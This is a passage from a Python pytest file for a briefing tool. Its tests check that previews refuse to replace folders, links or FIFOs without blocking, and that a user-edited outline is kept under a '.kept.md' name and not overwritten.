    (folder / name / "mine.txt").write_text("mine", encoding="utf-8")
    with pytest.raises(BriefingError) as refused:
        preview.preview_one(deck, 1, folder, programs)
    assert str(refused.value).endswith(f"{name} is not a file a preview replaces (a folder, a link or a special "
                                       "file); move it away")
    assert (folder / name / "mine.txt").read_text(encoding="utf-8") == "mine"


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_a_preview_record_that_is_a_fifo_is_no_record_and_never_waited_on(tmp_path, monkeypatch):
    from briefing.review import preview

    deck, folder, programs = _previewing(tmp_path, monkeypatch)
    os.mkfifo(folder / "sampler-full-en.json")
    assert preview._record(folder / "sampler-full-en.json") == {}      # a read would block for ever
    with pytest.raises(Exception) as refused:
        preview.preview_one(deck, 1, folder, programs)
    assert str(refused.value).endswith("sampler-full-en.json is not a file a preview replaces (a folder, a link or a "
                                       "special file); move it away")


def test_outline_never_overwrites_an_outline_someone_wrote(project, capsys):
    assert run_cli(capsys, "build")[0] == 0
    mine = project.root / "output/outline/sampler-full-en.md"
    built = mine.read_text(encoding="utf-8")
    code, out, err = run_cli(capsys, "outline", "--output", "output")
    assert (code, err) == (0, "")                   # the build's own outline: replaced without a word
    mine.write_text("# My notes for the meeting\n", encoding="utf-8")
    code, out, err = run_cli(capsys, "outline", "--output", "output")
    assert (code, err) == (0, "note: output/outline/sampler-full-en.md was not as a build left it; kept as "
                              "output/outline/sampler-full-en.kept.md\n")
    assert (project.root / "output/outline/sampler-full-en.kept.md").read_text(encoding="utf-8") == \
        "# My notes for the meeting\n"
    assert mine.read_text(encoding="utf-8") == built
